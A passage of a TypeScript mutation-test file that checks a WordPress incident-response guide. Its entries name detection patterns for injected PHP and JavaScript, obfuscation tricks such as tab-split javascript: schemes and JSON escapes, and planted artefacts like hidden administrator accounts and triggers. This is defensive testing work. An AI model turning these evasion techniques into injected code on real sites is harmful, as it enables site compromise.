    },
    {
      what: 'drop the plugin checksum line',
      ref: LOADING_CHECKS,
      edit: replace(/^.*plugin verify-checksums --all.*\n/m, ''),
      expect: /plugin verify-checksums did not name exactly akismet\.php/,
    },
    {
      what: 'drop the database query for administrators',
      ref: LOADING_CHECKS,
      edit: replace(/^# In the database:.*\n(?:#.*\n)*wp --path="\$SITE" db query <<'SQL'.*\n[\s\S]*?^SQL\n/m, ''),
      expect: /did not show wpsupport/,
    },
    {
      what: 'count only administrators in the database (the query before review r48)',
      ref: LOADING_CHECKS,
      edit: replace(/\n\s*OR m\.meta_value NOT REGEXP [^\n]*\)$/m, ')'),
      expect: /did not show wphelper/,
    },
    {
      what: 'accept any one key, role or capability, in the database query (the pattern before review r49)',
      ref: LOADING_CHECKS,
      edit: replace('(subscriber|contributor|author|editor|customer)', '[a-z0-9_-]+'),
      expect: /did not show wphelper/,
    },
    {
      what: 'drop the roles check',
      ref: LOADING_CHECKS,
      edit: replace(ROLES_CHECK, ''),
      expect: /the roles check named no role/,
    },
    {
      what: 'one wp cap list per role (the loop before review r100b): WP-CLI reads the role --debug as its flag',
      ref: LOADING_CHECKS,
      edit: replace(
        ROLES_CHECK,
        `$1while IFS= read -r role; do
  wp --path="$SITE" --skip-plugins --skip-themes cap list "$role" | grep -qxE 'manage_options|promote_users' && echo "#0 \\"$role\\""
done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) | cat -v
`,
      ),
      expect: /the roles check named ((?!--debug|, not ).)*, not administrator, editor, author/,
    },
    {
      what: 'print role names raw (before review r107b): a name holding a newline forges a line of its own',
      ref: LOADING_CHECKS,
      edit: replace('json_encode($role)', '"\\"$role\\""'),
      expect: /the roles check named ((?!seo|, not ).)*, not administrator, editor/,
    },
    {
      what: 'leave unfiltered_html out of the roles check (before review r105b)',
      ref: LOADING_CHECKS,
      edit: replace('(manage_options|unfiltered_html|', '(manage_options|'),
      expect: /the roles check named ((?!contributor|, not ).)*, not administrator, editor/,
    },
    {
      what: "match role keys in any case in the database query (without (?-i), under WordPress's _ci collation)",
      ref: LOADING_CHECKS,
      edit: replace(" NOT REGEXP '(?-i)^", " NOT REGEXP '^"),
      expect: /did not show wpboss/,
    },
    {
      what: 'drop the query of the settings',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT option_name, option_value .*\n.*\n/m, ''),
      expect: /did not show users_can_register 1 and default_role administrator/,
    },
    {
      what: 'ask the settings query for the addresses and theme only (users_can_register and default_role left out)',
      ref: LOADING_CHECKS,
      edit: replace("('users_can_register', 'default_role', ", '('),
      expect: /did not show users_can_register 1 and default_role administrator/,
    },
    {
      what: 'ask the settings query without admin_email',
      ref: LOADING_CHECKS,
      edit: replace("'home', 'admin_email', ", "'home', "),
      expect: /did not show admin_email support@example\.net/,
    },
    ...(['plugin', 'theme'] as const).map((kind) => ({
      what: `drop wp ${kind} list`,
      ref: LOADING_CHECKS,
      edit: replace(new RegExp(`^wp --path="\\$SITE" --skip-plugins --skip-themes ${kind} list .*\\n`, 'm'), ''),
      expect: new RegExp(`wp plugin list and wp theme list showed ${kind === 'plugin' ? 'flavor' : 'akismet, \\.cache, loader'}, not `),
    })),
    {
      what: 'drop the search of posts for injected code',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT ID, post_type, post_status, post_title FROM wp_posts\n.*\n/m, ''),
      expect: /did not find the script injected into post 1/,
    },
    {
      what: "drop the search of posts' fields for injected code",
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT post_id, meta_key FROM wp_postmeta\n.*\n/m, ''),
      expect: /did not find the script injected into post 1, _elementor_data/,
    },
    {
      what: 'search for script elements only, not event-handler attributes (the pattern before review r52)',
      ref: LOADING_CHECKS,
      edit: (text) => text.replace(HANDLER_PATTERN, ''),
      expect: /did not find the script injected into post 1, _elementor_data, wpc_footer_code and wpc_header_code/,
    },
    {
      what: 'leave out the search for links hidden by CSS (review r79b M1)',
      ref: LOADING_CHECKS,
      // The comment lines, H and the posts query's two lines
      edit: replace(/^# Links hidden by CSS.*\n(?:#.*\n)*H=.*\n.*\n.*\n/m, ''),
      expect:
        /did not list the page "Our team", the page "Our history", the page "Our values", the page "Our story", the page "Our mission", the page "Our partners", the page "Our awards" with a link hidden by CSS/,
    },
    {
      what: 'search for links hidden by CSS with the pattern before review r119a (no 1px box, no scale(0))',
      ref: LOADING_CHECKS,
      edit: withHiddenPattern(HIDDEN_PATTERN_BEFORE_R119A),
      expect:
        /did not list the page "Our history", the page "Our values", the page "Our story", the page "Our mission", the page "Our partners", the page "Our awards" with a link/,
    },
    {
      what: 'search for links hidden by CSS with the pattern before review r121a (nothing off to the right, no opacity 0.0)',
      ref: LOADING_CHECKS,
      edit: withHiddenPattern(HIDDEN_PATTERN_BEFORE_R121A),
      expect: /did not list the page "Our story", the page "Our mission", the page "Our partners", the page "Our awards" with a link/,
    },
    {
      what: 'search for links hidden by CSS with the pattern before review r122a (font sizes in px only, offsets in px or em only)',
      ref: LOADING_CHECKS,
      edit: withHiddenPattern(HIDDEN_PATTERN_BEFORE_R122A),
      expect: /did not list the page "Our partners", the page "Our awards" with a link/,
    },
    {
      what: 'search for links hidden by CSS in posts only (review r121a M1)',
      ref: LOADING_CHECKS,
      // The query and its indented lines
      edit: replace(/^wp --path="\$SITE" db query "SELECT 'option' AS hidden_in.*\n(?: {2}.*\n)*/m, ''),
      expect: /did not list user 1's bio or comment 1 with a link hidden by CSS/,
    },
    {
      what: 'leave out the list of outside domains (review r127a M1)',
      ref: LOADING_CHECKS,
      edit: replace(/^links wp_\n/m, ''),
      expect:
        /did not list the domains clear-casino\.example, tiny-pills\.example, under-loans\.example, reader-pharma\.example, json-pills\.example, entity-loans\.example, decoy-loans\.example, bare-loans\.example, wide-loans\.example, coded-loans\.example, 3232235777, dot-loans\.example, json-dot\.example:/,
    },
    {
      what: "read a link's host at the start of its address, user part and all (before review r129a M2)",
      ref: LOADING_CHECKS,
      edit: (text) => text.replaceAll(`(?:[^/?#[:space:]"''<>]*@)?`, ''),
      expect: /did not list the domains decoy-loans\.example:/,
    },
    {
      what: 'search without letters written as JSON escapes (before review r132a F1)',
      ref: LOADING_CHECKS,
      edit: replace('|u00([46][1-9a-f]|[57][0-9a])', ''),
      expect: /the searches for injected code missed a script whose s is a JSON escape in wpc_builder_block:/,
    },
    {
      what: 'take a form, base or link tag only before a space or > (before review r132a F3)',
      ref: LOADING_CHECKS,
      edit: replace('[[:space:]>/]|data:text/html|<link[[:space:]/]', '[[:space:]>]|data:text/html|<link[[:space:]]'),
      expect: /the searches for injected code missed a form with \/ after its name in wpc_newsletter:/,
    },
    {
      what: 'read a host only after // (before review r131a M1)',
      ref: LOADING_CHECKS,
      edit: (text) => text.replace('REGEXP_REPLACE(', '').replace(", '(?i)(?<=https|http):/?+(?!/)', '://')", ''),
      expect: /did not list the domains bare-loans\.example:/,
    },
    {
      what: 'read a host only with ASCII dots, written as they are (before review r131a M1)',
      ref: LOADING_CHECKS,
      edit: (text) => text.replace('REGEXP_REPLACE(', '').replace(/,\n {2}CONCAT\('\(\?i\)%2e\|.*\n/, ',\n'),
      expect: /did not list the domains wide-loans\.example, coded-loans\.example, dot-loans\.example, json-dot\.example:/,
    },
    {
      what: 'read only hosts with a dot, not an IP address written as one number (before review r131a M1)',
      ref: LOADING_CHECKS,
      edit: (text) =>
        text
          .replaceAll('|[0-9]+(?![[:alnum:][:^ascii:]%.-])|0x[[:xdigit:]]+(?![[:alnum:][:^ascii:]%.-])', '')
          .replace('|[0-9]++(?![[:alnum:][:^ascii:]%.-])|0x[[:xdigit:]]++(?![[:alnum:][:^ascii:]%.-])', ''),
      expect: /did not list the domains 3232235777:/,
    },
    {
      what: 'search for eval, system and assert after any letter (before review r129a L3)',
      ref: LOADING_CHECKS,
      edit: replace('(^|[^[:alnum:]_])(eval[[:space:]]*|system|assert)[(]', '(eval[[:space:]]*|system|assert)[(]'),
      expect: /listed the page "Our menu", whose font-size:0\.9em hides nothing and whose words are no code/,
    },
    {
      what: 'read links only where their slashes are written as // (before review r128a M1)',
      ref: LOADING_CHECKS,
      edit: (text) =>
        text.replace(/REGEXP_REPLACE\((CAST\(t\.body AS BINARY\)), CONCAT\('\[', CHAR\(92\)[^\n]*\n {2}'[^\n]*?'\/'\), /, '$1, '),
      expect: /did not list the domains json-pills\.example, entity-loans\.example, json-dot\.example:/,
    },
    {
      what: "compare each domain with the site's own without taking www off",
      ref: LOADING_CHECKS,
      edit: replace("BINARY LOWER(REGEXP_REPLACE(h.host, '^www[.]', '')) <>", 'BINARY LOWER(h.host) <>'),
      expect: /listed the site's own domain as an outside one/,
    },
    {
      what: 'search for injected code without stylesheets from elsewhere (before review r127a L2)',
      ref: LOADING_CHECKS,
      edit: replace('|<link[[:space:]/]|@import', ''),
      expect: /missed a stylesheet linked from elsewhere in wpc_head_styles, a stylesheet imported from elsewhere in wpc_inline_styles:/,
    },
    {
      what: 'write a whole serialized option anew instead of one key in it (review r127a L3)',
      ref: DATABASE_CLEANING,
      edit: replace("option patch update widget_custom_html 2 content ''", "option update widget_custom_html ''"),
      expect: /after the cleaning block: .*widget_custom_html is ""/,
    },
    {
      what: 'let option patch read the lines pasted after it (no </dev/null)',
      ref: DATABASE_CLEANING,
      edit: replace(" content '' </dev/null", " content ''"),
      // It reads to the end of the input, as in a terminal the paste's: the shell waits until the harness gives up
      expect: /hung in a block for 120 s/,
    },
    {
      what: "keep post 1's revisions (review r127a L3)",
      ref: DATABASE_CLEANING,
      // Only the delete line: the run sets the ID in the listing line before it
      edit: replace(/^\[ -z "\$R" \] \|\| .*\n/m, ''),
      expect: /post 1 still has 1 revisions holding the script/,
    },
    {
      what: 'save the post as post get prints it, a newline at its end (review r129a, a LOW)',
      ref: DATABASE_CLEANING,
      edit: replace(/printf '%s' "\$\((wp [^\n]*post get 4 --field=post_content)\)"/, '$1'),
      expect: /post 1 ends in a newline after the cleaning block/,
    },
    {
      what: 'search for a meta refresh with the pattern before review r119a (no spaces around =)',
      ref: LOADING_CHECKS,
      edit: replace('http-equiv[^>]{0,12}refresh', 'http-equiv=.?refresh'),
      expect: /the widened searches for injected code missed the redirect in wpc_meta_refresh[:,]/,
    },
    {
      what: 'search for a meta refresh with the pattern before review r121a (one character between = and refresh)',
      ref: LOADING_CHECKS,
      edit: replace('http-equiv[^>]{0,12}refresh', 'http-equiv[[:space:]]*=[[:space:]]*.?refresh'),
      expect: /the widened searches for injected code missed the JSON-escaped redirect in post 2's _wpc_builder:/,
    },
    {
      what: 'reset the passwords without dropping the triggers first (review r84b HIGH)',
      ref: LOADING_CHECKS,
      edit: replace(DROP_LOOP, ''),
      // With a trigger left, the block stops before its resets: the password loop prints nothing
      expect: /in wp user list, the database and the password loop:/,
    },
    {
      what: 'drop each trigger by the name the batch output lists, escaped (the loop before review r89b H1)',
      ref: LOADING_CHECKS,
      edit: replace(
        DROP_LOOP,
        'for kind in TRIGGER EVENT; do\n  wp --path="$SITE" db query "SELECT ${kind}_NAME FROM information_schema.${kind}S WHERE ${kind}_SCHEMA = DATABASE()" --skip-column-names |\n    while IFS= read -r t; do wp --path="$SITE" db query "DROP $kind \\`$t\\`" < /dev/null; done\ndone\n',
      ),
      expect: /in wp user list, the database and the password loop:/,
    },
    {
      what: 'search for handlers after a space or a slash only (the pattern before review r76b F1)',
      ref: LOADING_CHECKS,
      edit: (text) => text.replace(HANDLER_PATTERN, '|<[^>]{0,2000}[[:space:]/]on[a-z]+[[:space:]]*='),
      expect: /missed the handler after a quote in wpc_badge, the handler after a > inside a quoted value in wpc_gallery:/,
    },
    {
      what: 'search for the entity with its semicolon only (the pattern before review r76b F1)',
      ref: LOADING_CHECKS,
      edit: replace(CHARACTER_REFERENCES, '&#(x0*6a|0*106);'),
      expect: /missed the entity without a semicolon in wpc_link, a later letter as a reference in wpc_deal:/,
    },
    {
      what: 'no search for a tab or newline in the scheme (the pattern before review r118a F1)',
      ref: LOADING_CHECKS,
      edit: replace(TAB_REFERENCES, ''),
      expect:
        /missed a tab as a reference in wpc_promo, a raw tab inside javascript: in wpc_coupon, twelve tabs inside javascript: in wpc_voucher:/,
    },
    {
      what: 'allow white space between java and script only (the pattern before review r122a M3)',
      ref: LOADING_CHECKS,
      edit: replace(TAB_REFERENCES, TAB_REFERENCES.replace(/^\|[^|]*/, `|${SPACED_SCHEME_BEFORE_R122A}`)),
      expect: /missed a raw tab inside javascript: in wpc_coupon, twelve tabs inside javascript: in wpc_voucher:/,
    },
    {
      what: 'allow at most nine white-space characters between two letters of javascript: (the pattern before review r124a M1)',
      ref: LOADING_CHECKS,
      edit: replace(TAB_REFERENCES, TAB_REFERENCES.replace(/^\|[^|]*/, `|${SPACED_SCHEME_BEFORE_R124A}`)),
      expect: /missed twelve tabs inside javascript: in wpc_voucher:/,
    },
    {
      what: 'leave forms out of the content pattern (before review r122a M3)',
      ref: LOADING_CHECKS,
      edit: replace('<(object|embed|base|form)[[:space:]>/]', '<(object|embed|base)[[:space:]>/]'),
      expect: /missed a form posting elsewhere in wpc_checkout, a form with \/ after its name in wpc_newsletter:/,
    },
    {
      what: 'search for a first letter j written as a reference only (the pattern before review r115a F1)',
      ref: LOADING_CHECKS,
      edit: replace(CHARACTER_REFERENCES, '&#(x0*6a|0*106)[^0-9]'),
      expect: /missed a later letter as a reference in wpc_deal:/,
    },
    {
      what: 'search the content and excerpt of posts, not their titles (the query before review r68b M1)',
      ref: LOADING_CHECKS,
      edit: replace("CONCAT_WS(' ', post_title, post_content, post_excerpt)", 'CONCAT(post_content, post_excerpt)'),
      expect: /the searches for injected code missed the title of post 3:/,
    },
    {
      what: "leave accounts' names and sites out of the search (before review r68b M1)",
      ref: LOADING_CHECKS,
      edit: replace(/ UNION ALL SELECT 'user', ID, 'wp_users' FROM wp_users\s+WHERE CONCAT_WS\([^)]*\) REGEXP '\$P'/, ''),
      expect: /the searches for injected code missed the display name of wpeditor:/,
    },
    {
      what: 'search post_content only, not the excerpt (the posts query before the fix of review r52 LOW 3)',
      ref: LOADING_CHECKS,
      edit: replace("WHERE CONCAT_WS(' ', post_title, post_content, post_excerpt) REGEXP", 'WHERE post_content REGEXP'),
      expect: /the searches for injected code missed (the title of post 3, )?the excerpt of post 2:/,
    },
    {
      what: 'drop the search of category and tag descriptions',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT t\.term_id, x\.taxonomy FROM wp_terms .*\n.*\n/m, ''),
      expect: /the searches for injected code missed the description of category 1, the name of category 90:/,
    },
    {
      what: 'search category and tag descriptions only, not their names (before review r126a H1)',
      ref: LOADING_CHECKS,
      edit: replace(
        'CONCAT_WS(\' \', t.name, x.description) REGEXP \'$P\'" | cat -v\nwp --path="$SITE" db query "SELECT comment_ID',
        'x.description REGEXP \'$P\'" | cat -v\nwp --path="$SITE" db query "SELECT comment_ID',
      ),
      expect: /the searches for injected code missed the name of category 90:/,
    },
    {
      what: 'search for links hidden by CSS without bios and comments (before review r126a M1)',
      ref: LOADING_CHECKS,
      edit: replace(
        /\n {2}UNION ALL SELECT 'user', user_id, meta_key FROM wp_usermeta WHERE meta_key = 'description'.*\n.*REGEXP '\$H'"/,
        `"`,
      ),
      expect: /did not list user 1's bio or comment 1 with a link hidden by CSS/,
    },
    {
      what: 'flag any font size under 1em (the pattern before review r126a M2)',
      ref: LOADING_CHECKS,
      edit: replace('(0?[.][0-9]+px|0?[.][0-2][0-9]*r?em)', '0?[.][0-9]+(px|r?em)'),
      expect: /listed the page "Our menu", whose font-size:0\.9em hides nothing/,
    },
    {
      what: 'drop the search of comments',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT comment_ID, .*\n.*\n/m, ''),
      expect: /the searches for injected code missed comment 1:/,
    },
    {
      what: 'leave the links table out of the search (before review r84b L1)',
      ref: LOADING_CHECKS,
      edit: replace(/ UNION ALL SELECT 'link', link_id, 'wp_links' FROM wp_links\s+WHERE CONCAT_WS\([^)]*\) REGEXP '\$P'/, ''),
      expect: /the searches for injected code missed the link Partner:/,
    },
    {
      what: 'drop the query of stored routines',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT ROUTINE_NAME.*\n.*\n/m, ''),
      expect: /did not show the procedure wp_cache_helper/,
    },
    {
      what: 'drop the query of triggers',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT TRIGGER_SCHEMA, .*\n.*\n/m, ''),
      expect: /did not show the trigger wp_keep_admin/,
    },
    {
      what: 'drop the search of options for injected code',
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT option_id, option_name FROM wp_options\n.*\n/m, ''),
      expect: /did not find the script injected into post 1, _elementor_data, wpc_footer_code and wpc_header_code/,
    },
    {
      what: "drop the query of every account's Application Passwords",
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SELECT u\.ID, u\.user_login, m\.meta_value .*\n.*\n/m, ''),
      expect: /did not list the Application Password of wpeditor/,
    },
    {
      what: "drop the query of WooCommerce's REST API keys",
      ref: LOADING_CHECKS,
      edit: replace(/^\[ -n "\$\(wp --path="\$SITE" db query "SHOW TABLES LIKE 'wp_woocommerce_api_keys'".*\n.*\n.*\n/m, ''),
      expect: /did not list the WooCommerce API key/,
    },
    {
      what: "drop the query of WooCommerce's webhooks",
      ref: LOADING_CHECKS,
      edit: replace(/^\[ -n "\$\(wp --path="\$SITE" db query "SHOW TABLES LIKE 'wp_wc_webhooks'".*\n.*\n.*\n/m, ''),
      expect: /did not list the WooCommerce webhook/,
    },
    {
      what: 'query the API keys without asking whether the table exists: the site with no shop gets an error',
      ref: LOADING_CHECKS,
      edit: replace(/^\[ -n "\$\(wp --path="\$SITE" db query "SHOW TABLES LIKE 'wp_woocommerce_api_keys'".*\n\s*/m, ''),
      expect: /on the clean site the checks that load WordPress printed/,
    },
    {
      what: 'drop the query of recent changes to posts and pages',
      ref: LOADING_CHECKS,
      edit: replace(
        /^wp --path="\$SITE" db query "SELECT ID, post_type, post_status, post_title, post_modified_gmt FROM wp_posts\n.*\n/m,
        '',
      ),
      expect: /did not list the spam page "Cheap watches" first/,
    },
    {
      what: 'list recent changes oldest first',
      ref: LOADING_CHECKS,
      edit: replace('ORDER BY post_modified_gmt DESC', 'ORDER BY post_modified_gmt ASC'),
      expect: /did not list the spam page "Cheap watches" first/,
    },
    {
      what: 'list the newest posts by date, not by ID (review r63b M3)',
      ref: LOADING_CHECKS,
      edit: replace('ORDER BY ID DESC', 'ORDER BY post_date_gmt DESC'),
      expect: /did not list the backdated spam page "Cheap pills" first/,
    },
    {
      what: 'list modification times only (what tar keeps), not change times',
      ref: EVIDENCE_FILES,
      edit: replace("-printf '%C+ %T+ ", "-printf '%T+ %T+ "),
      expect: /the evidence listing did not keep cache\.php's change and modification times/,
    },
    {
      what: 'drop the copy of the files',
      ref: EVIDENCE_FILES,
      edit: replace(/^sudo tar .*\n/m, ''),
      expect: /the evidence copy did not hold cache\.php/,
    },
    {
      what: 'dump the settings table only',
      ref: EVIDENCE_DATABASE,
      edit: replace('"$D" >', '"$D" wp_options >'),
      expect: /the database dump in \S+ was not complete with wpsupport/,
    },
    {
      what: "dump with mysqldump's defaults, which leave events and routines out",
      ref: EVIDENCE_DATABASE,
      edit: replace(' --routines --events', ''),
      expect: /the database dump in \S+ was not complete with wpsupport, the events and wp_cache_helper/,
    },
    {
      what: 'drop the guard against the example folder names',
      ref: EVIDENCE_FILES,
      edit: replace(/^\[ -d "\$E" \].*\n/m, ''),
      expect: /with E and S left as the examples, the block did not stop at its guard/,
    },
    {
      what: "drop SHOW GRANTS: the site's database user's rights go unlisted",
      ref: LOADING_CHECKS,
      edit: replace(/^wp --path="\$SITE" db query "SHOW GRANTS" \| cat -v\n/m, ''),
      expect: /did not show the site's database user's CREATE USER on \*\.\*/,
    },
    {
      what: 'search with the pattern before review r57 (scripts, handlers, eval, base64_decode only)',
      ref: LOADING_CHECKS,
      edit: replace('|document[.]write|fromCharCode|atob[(]|gzinflate|str_rot13|http-equiv[^>]{0,12}refresh', ''),
      expect:
        /the widened searches for injected code missed the redirect in wpc_meta_refresh, atob in post 2's _wpc_head_js, document\.write in wpc_ads/,
    },
    {
      what: 'search with the pattern before review r59 (no PHP words, eval only when the bracket follows)',
      ref: LOADING_CHECKS,
      edit: (text) =>
        text.replace('(^|[^[:alnum:]_])(eval[[:space:]]*|system|assert)[(]', 'eval[(]').replace('|<[?]php|passthru|shell_exec', ''),
      expect: /did not list the table wp_snippets or find the PHP in wpc_custom_php/,
    },
    {
      what: 'drop the voiding of pending reset keys (review r66b MEDIUM-1)',
      ref: LOADING_CHECKS,
      edit: replace(/^# A reset key written into the database.*\n.*\n/m, ''),
      expect: /these accounts still hold a reset key: wpeditor/,
    },
    {
      what: 'drop the listing of tables core did not make',
      ref: LOADING_CHECKS,
      // The comment lines and the query's lines, up to the next comment
      edit: replace(/^# Tables core did not make.*\n(?:#.*\n)*(?:[^#\n].*\n)+/m, ''),
      expect: /did not list the table wp_snippets or find the PHP in wpc_custom_php/,
    },
    {
      what: 'leave the set-aside folder out of the evidence',
      ref: EVIDENCE_FILES,
      edit: replace(/^sudo tar -C "\$\(dirname "\$S"\)".*$/m, ''),
      expect: /set-aside\.tar\.gz in .* did not hold the set-aside \.bashrc/,
    },
    {
      what: "set E and S outright (review r74a L2): pasted into step 2's terminal, its folders are lost",
      ref: EVIDENCE_FILES,
      edit: (text: string) =>
        text
          .replace('E=${E:-$HOME/evidence-example.XXXXXX}', 'E=$HOME/evidence-example.XXXXXX')
          .replace('S=${S:-/home/set-aside-example.XXXXXX}', 'S=/home/set-aside-example.XXXXXX'),
      expect: /set-aside\.tar\.gz in .* did not hold the set-aside \.bashrc/,
    },
    {
      what: "copy core with cp -a: the new folder's mode 700 lands on the web root",
      ref: CORE_REPLACE,
      edit: replace('cp -R --remove-destination', 'cp -a --remove-destination'),
      expect: /replacing core changed the web root's mode from \d+ to 700/,
    },
    {
      what: 'copy core over Requests/ without deleting it first (review r72a HIGH F5): the planted loader stays, and wp runs it',
      ref: CORE_REPLACE,
      edit: replace('rm -rf -- "$SITE/wp-includes/Requests" && ', ''),
      expect: /the check warned of .*File should not exist: wp-includes\/Requests\/src\/Autoload\.php/,
    },
    {
      what: 'download core but leave out the copy over the site',
      ref: CORE_REPLACE,
      edit: replace(/ &&\n *rm -rf -- .*\n/, '\n'),
      expect: /replacing core left 2 planted lines in functions\.php and wp-includes\/class-requests\.php/,
    },
    ...[HTTP_LIBRARY_CHECK, CORE_REPLACE].map((ref) => ({
      what: 'drop the if around what follows the version (review r59 L2): with none read, the block goes on',
      ref,
      edit: (text: string) => replace(/^if \[ -z "\$V" \]; then .*\n/m, '')(replace(/^fi$/m, '')(text)),
      expect: /with no version read, the block went on or left the shell/,
    })),
    {
      what: "guard the version with exit, as before (r59 L2's fix): the shell ends and the paste's rest would run in the administrator's",
      ref: CORE_REPLACE,
      edit: (text: string) =>
        replace(/^if \[ -z "\$V" \]; then (echo '[^']*'); else\n/m, '[ -n "$V" ] || { $1; exit 1; }\n')(replace(/^fi$/m, '')(text)),
      expect: /ended in a block/,
    },
    {
      what: "check Requests/ only, not the library's pre-6.2 file",
      ref: HTTP_LIBRARY_CHECK,
      edit: replace('|class-requests[.]php$', ''),
      expect: /the HTTP library check named nothing, not exactly wp-includes\/class-requests\.php/,
    },
    {
      what: 'check only the files the checksums list (review r69a HIGH-1)',
      ref: HTTP_LIBRARY_CHECK,
      edit: replace(/\n *\/\/ WP-CLI runs Requests[^\n]*\n[\s\S]*?not a WordPress file\\n"\);/, ''),
      expect: /the HTTP library check named no file as not WordPress's, not exactly wp-includes\/Requests\/src\/Autoload\.php/,
    },
    {
      what: 'read the version with a pattern version.php does not match (no checksums)',
      ref: HTTP_LIBRARY_CHECK,
      edit: replace('s/^\\$wp_version', 's/^wp_version'),
      expect: /the HTTP library check named nothing, not exactly wp-includes\/class-requests\.php/,
    },
    ...(
      [
        ['the search of uploads by name', CODE_FREE_CHECKS, "'*.phar' \\) | cat -v", "'*.phar' \\)"],
        ['the search of uploads by content', CODE_FREE_CHECKS, '"$SITE/wp-content/uploads" 2>&1 | cat -v', '"$SITE/wp-content/uploads"'],
        ['the PHP in wp-content by date', CODE_FREE_CHECKS, '| sort | cat -v', '| sort'],
        [
          'the listing of plugins and themes',
          CODE_FREE_CHECKS,
          "-maxdepth 1 -printf '%C+ %p\\n' | sort | cat -v",
          "-maxdepth 1 -printf '%C+ %p\\n' | sort",
        ],
        ['the find of .user.ini, .htaccess and wp-cli*.yml', CODE_FREE_CHECKS, "-name 'wp-cli*.yml' | cat -v", "-name 'wp-cli*.yml'"],
        ['the loop over the folders above the web root', CODE_FREE_CHECKS, '; done | cat -v', '; done'],
        ['core verify-checksums', CORE_CHECK, ' 2>&1 | cat -v', ''],
        ['plugin verify-checksums', LOADING_CHECKS, 'verify-checksums --all 2>&1 | cat -v', 'verify-checksums --all'],
        ["wp user list's administrators", LOADING_CHECKS, 'user list --role=administrator | cat -v', 'user list --role=administrator'],
        ['the database query for administrators', LOADING_CHECKS, "db query <<'SQL' | cat -v", "db query <<'SQL'"],
        ['the new-password loop', LOADING_CHECKS, '--show-password\ndone | cat -v', '--show-password\ndone'],
      ] as const
    ).map(([listing, ref, from, to]) => ({
      what: `drop cat -v from ${listing}: a name with escape codes reaches the terminal raw`,
      ref,
      edit: replace(from, to),
      expect: /a listing printed a raw control character/,
    })),
  ],
};
